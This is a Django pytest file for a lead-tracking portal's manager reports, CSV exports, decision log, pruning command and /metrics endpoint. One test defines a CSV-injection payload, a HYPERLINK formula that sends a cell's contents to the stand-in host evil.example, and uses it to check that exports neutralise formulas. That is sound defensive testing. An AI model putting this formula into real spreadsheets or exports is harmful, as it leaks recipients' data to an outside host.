"""The managers' report pages, CSV exports, the log page, pruning and /metrics, through the real views."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from audit.models import Decision, ReportSettings
from audit.tables import SECONDS, cell
from audit.views import EMPTY_HINTS
from tests.audit.conftest import at

pytestmark = pytest.mark.django_db

WEEK_QUERY = "from=2026-10-01&to=2026-10-07"


def portal(username: str) -> Client:
    client = Client()
    assert client.login(username=username, password="demo")
    return client


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.parametrize("name", ["speed", "funnel", "follow-up", "leaks", "ai", "roi"])
def test_every_report_renders_for_managers_only(week, name):
    page = portal("manager").get(f"/portal/reports/{name}/?{WEEK_QUERY}")
    assert page.status_code == 200
    assert "Oct 1, 2026 – Oct 7, 2026" in page.content.decode()
    assert portal("rep1").get(f"/portal/reports/{name}/").status_code == 403
    assert Client().get(f"/portal/reports/{name}/").status_code == 302


def test_the_speed_report_shows_its_figures_a_chart_and_exports_them(week):
    html = portal("manager").get(f"/portal/reports/speed/?{WEEK_QUERY}").content.decode()
    assert "<svg" in html and "By hour of day (nights visible)" in html
    assert (
        "<td>All leads</td><td>4</td><td>3</td><td>2 min</td><td>8.4 min</td><td>9.8 min</td><td>25%</td><td>50%</td>"
        in html
    )
    rows = csv_rows(portal("manager").get(f"/portal/reports/speed/?{WEEK_QUERY}&format=csv"))
    assert rows[0] == ["Oct 1, 2026 – Oct 7, 2026", "Capture to first response"]
    assert rows[1] == ["", "Leads", "Answered", "p50", "p90", "p99", "Within 1 min", "Within 5 min"]
    assert rows[2][:4] == ["All leads", "4", "3", "120.0"] and rows[2][6:] == ["0.25", "0.5"]


def test_bad_dates_are_named_and_the_default_period_is_shown(week):
    response = portal("manager").get("/portal/reports/speed/?from=2026-13-01&to=2026-10-07")
    assert response.status_code == 422
    assert "from: Give a date like 2026-11-01, not &#x27;2026-13-01&#x27;." in response.content.decode()
    backwards = portal("manager").get("/portal/reports/funnel/?from=2026-10-07&to=2026-10-01")
    assert backwards.status_code == 422 and "The last day must not be before the first." in backwards.content.decode()
    assert portal("manager").get("/portal/reports/nonsense/").status_code == 404


def test_the_baseline_is_set_with_the_roi_inputs_and_every_report_compares_with_it(week):
    client = portal("manager")
    refused = client.post(
        "/portal/reports/settings/",
        {
            "baseline_start": "2026-09-07",
            "baseline_end": "2026-09-01",
            "close_rate": "20",
            "average_deal_value": "5000",
            "monthly_cost": "500",
        },  # fmt: skip
    )
    assert refused.status_code == 422 and "The last day must not be before the first." in refused.content.decode()
    saved = client.post(
        "/portal/reports/settings/",
        {
            "baseline_start": "2026-09-01",
            "baseline_end": "2026-09-30",
            "baseline_note": "before Nightshift",
            "close_rate": "25",
            "average_deal_value": "4000",
            "monthly_cost": "300",
        },  # fmt: skip
    )
    assert saved.status_code == 302
    row = ReportSettings.load()
    assert (row.baseline_start, row.close_rate) == (date(2026, 9, 1), 25)
    assert row.history.first().history_user.username == "manager"
    compared = client.get(f"/portal/reports/funnel/?{WEEK_QUERY}&compare=1").content.decode()
    assert "Baseline: Sep 1, 2026 – Sep 30, 2026" in compared
    # September: L0 alone, answered in 10 s but never written to again (lost); this week 2 of 4 lost.
    roi = client.get(f"/portal/reports/roi/?{WEEK_QUERY}").content.decode()
    assert "(100.0% lost before − 50.0% lost now) × 4 leads = 2.0 recovered" in roi
    assert (
        "× 25.00% close rate × 4000.00 per deal × 30/7 days = 8571.43 a month, against 300.00 a month: net 8271.43"
        in roi
    )


def test_a_leak_is_a_clickable_list_of_leads(week):
    leaks = portal("manager").get(f"/portal/reports/leaks/?{WEEK_QUERY}").content.decode()
    assert f'href="/portal/reports/leaks/slow/?{WEEK_QUERY.replace("&", "&amp;")}"' in leaks
    page = portal("manager").get(f"/portal/reports/leaks/slow/?{WEEK_QUERY}").content.decode()
    assert f'href="/portal/leads/{week["L3"].pk}/"' in page and f'href="/portal/leads/{week["L4"].pk}/"' in page
    assert f'href="/portal/leads/{week["L1"].pk}/"' not in page  # not the bare name: a CSRF token may spell it
    assert portal("manager").get("/portal/reports/leaks/nothing/").status_code == 404


def test_the_log_filters_by_step_actor_outcome_and_time_and_exports(week, capture):
    capture(name="Gil", phone="+15128670306", message="Need a roof quote, budget $9k, 30301")
    client = portal("manager")
    qualify = client.get("/portal/log/?step=qualify").content.decode()
    assert "<td>Qualified</td>" in qualify and "<td>Routed</td>" not in qualify
    system = client.get("/portal/log/?actor=system&step=route").content.decode()
    assert "round-robin" in system
    assert "Nothing matches these filters." in client.get("/portal/log/?actor=rep1").content.decode()
    today = timezone.localdate().isoformat()
    assert "<td>Qualified</td>" in client.get(f"/portal/log/?since={today}&until={today}").content.decode()
    assert "Nothing matches" in client.get("/portal/log/?until=2020-01-01").content.decode()
    assert client.get("/portal/log/?since=yesterday").status_code == 422
    rows = csv_rows(client.get("/portal/log/?step=qualify&format=csv"))
    assert rows[0][:3] == ["created_at", "step", "workflow"] and rows[1][1] == "qualify"
    assert portal("rep1").get("/portal/log/").status_code == 403
    Decision.objects.bulk_create(Decision(step="notify", reasoning=f"note {n}") for n in range(60))
    paged = client.get("/portal/log/?step=notify").content.decode()
    assert "Page 1 of 2" in paged and 'href="?step=notify&page=2">Older</a>' in paged


def test_pruning_keeps_model_calls_and_the_baseline(week, settings):
    old = timezone.now() - timedelta(days=800)
    for model in ("", "gpt-4o-mini"):
        Decision.objects.create(step="qualify", model=model, reasoning="old")
    Decision.objects.create(step="route", reasoning="in the baseline")
    Decision.objects.filter(reasoning="old").update(created_at=old)
    Decision.objects.filter(reasoning="in the baseline").update(created_at=at(2, 12, month=9))
    row = ReportSettings.load()
    row.baseline_start, row.baseline_end = date(2026, 9, 1), date(2026, 9, 30)
    row.save()
    out = io.StringIO()
    call_command("prune_log", "--days", "30", "--dry-run", stdout=out)
    assert "1 log entries are older than 30 days and would be deleted." in out.getvalue()
    call_command("prune_log", "--days", "30", stdout=out)
    assert "Deleted 1 log entries older than 30 days." in out.getvalue()
    assert set(
        Decision.objects.filter(created_at__lt=timezone.now() - timedelta(days=30)).values_list("model", "step")
    ) == {
        ("gpt-4o-mini", "qualify"),
        ("", "route"),
    }
    settings.DECISION_RETENTION_DAYS = 0
    call_command("prune_log", stdout=out)
    assert "kept for ever" in out.getvalue()


def test_metrics_need_the_token_and_speak_prometheus(demo, capture, settings):
    assert Client().get("/metrics").status_code == 404, "off without a token"
    settings.METRICS_TOKEN = "s3cret"
    capture(name="Gil", phone="+15128670306", message="Need a roof quote, budget $9k, 30301")
    assert Client().get("/metrics").status_code == 401
    assert Client().get("/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 401
    response = Client().get("/metrics", headers={"Authorization": "Bearer s3cret"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/plain")
    text = response.content.decode()
    assert 'nightshift_events_captured_total{channel="form"} 1.0' in text
    assert 'nightshift_actions{status="pending"} 1.0' in text
    assert "nightshift_queue_depth " in text
    assert 'nightshift_oldest_waiting_seconds{work="event"} 0.0' in text
    assert 'nightshift_step_duration_seconds_bucket{le="0.005",step="qualify"}' in text


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for your quote")'


def test_every_csv_export_writes_a_formula_as_text(week):
    """OWASP's CSV injection: a cell a spreadsheet would run is written with a leading quote; numbers stay numbers."""
    from tests.audit.conftest import make_lead

    make_lead("L9", at(2, 12), channel="form", source=HOSTILE, answered_after=60, stages=("new", "contacted"))
    client = portal("manager")
    rows = csv_rows(client.get(f"/portal/reports/speed/?{WEEK_QUERY}&format=csv"))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert "120.0" in cells, "numbers are not quoted"
    Decision.objects.create(step="notify", reasoning=HOSTILE, input_summary="+1 512 867 0300")
    log = csv_rows(client.get("/portal/log/?step=notify&format=csv"))
    assert log[1][11] == "'" + HOSTILE and log[1][12] == "'+1 512 867 0300"


@pytest.mark.parametrize("name", ["speed", "funnel", "ai"])
def test_an_empty_report_says_what_fills_it(demo, name):
    page = portal("manager").get(f"/portal/reports/{name}/?from=2020-01-01&to=2020-01-07").content.decode()
    assert "Nothing in this period." in page and EMPTY_HINTS[name] in page


def test_the_charts_beside_the_tables_and_the_baseline_weeks_before_the_period(week):
    manager = portal("manager")
    ReportSettings.objects.update_or_create(
        pk=1, defaults={"baseline_start": date(2026, 9, 14), "baseline_end": date(2026, 9, 27)}
    )
    speed = manager.get(f"/portal/reports/speed/?{WEEK_QUERY}").content.decode()
    assert '<svg class="chart" role="img"' in speed and ">Speed to lead by week: p50 and p90</title>" in speed
    # The baseline's weeks lead into the period's: before and after in one picture.
    assert "By week, from the baseline (Sep 14, 2026 – Sep 27, 2026) on" in speed
    assert "<tr><td>2026-09-21</td><td>yes</td><td>0</td><td>0</td><td>–</td>" in speed
    # A week is in the baseline when most of it is: Sep 28 – Oct 4 holds L0 (Sep 30) and the period's first four days.
    assert "<tr><td>2026-09-28</td><td></td><td>5</td><td>4</td><td>75 s</td><td>7.6 min</td><td>60%</td>" in speed
    assert "Sep 28: p50 1.2 min" in speed and ">Baseline</text>" in speed
    funnel = manager.get(f"/portal/reports/funnel/?{WEEK_QUERY}").content.decode()
    assert ">The funnel: leads that reached each stage</title>" in funnel and "New: 5 (100% of new)" in funnel
    leaks = manager.get(f"/portal/reports/leaks/?{WEEK_QUERY}").content.decode()
    assert ">Leaks by week</title>" in leaks
    ai = manager.get(f"/portal/reports/ai/?{WEEK_QUERY}").content.decode()
    assert ">What happened to each workflow&#x27;s proposals</title>" in ai, "the week has no proposals: empty state"
    rows = csv_rows(manager.get(f"/portal/reports/speed/?{WEEK_QUERY}&format=csv"))
    weekly = rows.index(["Oct 1, 2026 – Oct 7, 2026", "By week, from the baseline (Sep 14, 2026 – Sep 27, 2026) on"])
    assert rows[weekly + 1][:3] == ["Week of", "Baseline", "Leads"]
    assert [row[:3] for row in rows[weekly + 2 : weekly + 6]] == [
        ["2026-09-14", "yes", "0"], ["2026-09-21", "yes", "0"], ["2026-09-28", "", "5"], ["2026-10-05", "", "0"],
    ]  # fmt: skip


def test_a_chart_with_nothing_to_draw_says_so(demo):
    page = portal("manager").get("/portal/reports/speed/?from=2026-10-01&to=2026-10-07").content.decode()
    assert "No data in this period." in page and "<polyline" not in page


def test_long_waits_read_in_hours_and_days_in_the_tables():
    assert [cell(s, SECONDS) for s in (45, 150, 54_324, 228_246)] == ["45 s", "2.5 min", "15 h", "2.6 d"]
